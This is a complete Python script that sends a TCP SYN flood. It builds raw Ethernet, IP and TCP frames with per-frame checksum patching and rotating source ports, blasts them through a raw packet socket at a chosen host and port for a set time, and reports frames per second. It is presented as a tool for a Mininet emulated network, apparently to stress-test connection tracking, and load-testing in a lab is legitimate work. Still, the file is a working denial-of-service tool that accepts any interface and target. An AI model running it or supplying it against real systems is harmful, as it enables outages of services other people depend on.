"""A SYN flood from inside a Mininet host: raw Ethernet frames, one socket, no scapy.

    python3 synflood.py IFACE SRC_MAC DST_MAC SRC_IP DST_IP DST_PORT SECONDS

Every frame is a TCP SYN from a new source port (1024..65535, then again with another sequence
number), so each one is a new connection to conntrack. Checksums are patched per frame from a
precomputed sum. Prints one JSON line: frames sent, seconds, frames per second.
"""

from __future__ import annotations

import json
import socket
import struct
import sys
import time


def _sum16(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    return sum(struct.unpack(f"!{len(data) // 2}H", data))


def _fold(total: int) -> int:
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total


def frames(src_mac: str, dst_mac: str, src_ip: str, dst_ip: str, dst_port: int, seq: int):
    """An endless generator of SYN frames, one source port each."""
    src, dst = socket.inet_aton(src_ip), socket.inet_aton(dst_ip)
    eth = bytes.fromhex(dst_mac.replace(":", "")) + bytes.fromhex(src_mac.replace(":", "")) + b"\x08\x00"
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0x5650, 0x4000, 64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", (~_fold(_sum16(ip))) & 0xFFFF) + ip[12:]
    # TCP header with source port 0 and checksum 0; the port goes in per frame
    tail = struct.pack("!IIBBH", seq, 0, 5 << 4, 0x02, 64240)
    base = _sum16(src + dst + struct.pack("!BBH", 0, 6, 20)) + _sum16(struct.pack("!HH", 0, dst_port) + tail)
    head = eth + ip
    dport = struct.pack("!H", dst_port)
    while True:
        for port in range(1024, 65536):
            csum = (~_fold(base + port)) & 0xFFFF
            yield head + struct.pack("!H", port) + dport + tail + struct.pack("!HH", csum, 0)
        seq = (seq + 1) & 0xFFFFFFFF
        tail = struct.pack("!IIBBH", seq, 0, 5 << 4, 0x02, 64240)
        base = _sum16(src + dst + struct.pack("!BBH", 0, 6, 20)) + _sum16(struct.pack("!HH", 0, dst_port) + tail)


def main(argv: list[str]) -> None:
    iface, src_mac, dst_mac, src_ip, dst_ip, port, seconds = argv
    sent = 0
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind((iface, 0))
        gen = frames(src_mac, dst_mac, src_ip, dst_ip, int(port), 1)
        t0 = time.monotonic()
        end = t0 + float(seconds)
        while True:
            for _ in range(1000):
                try:
                    s.send(next(gen))
                    sent += 1
                except BlockingIOError:  # a full socket buffer: the switch is behind
                    pass
            if time.monotonic() >= end:
                break
        took = time.monotonic() - t0
    print(json.dumps({"sent": sent, "seconds": round(took, 2), "per_s": round(sent / took)}), flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
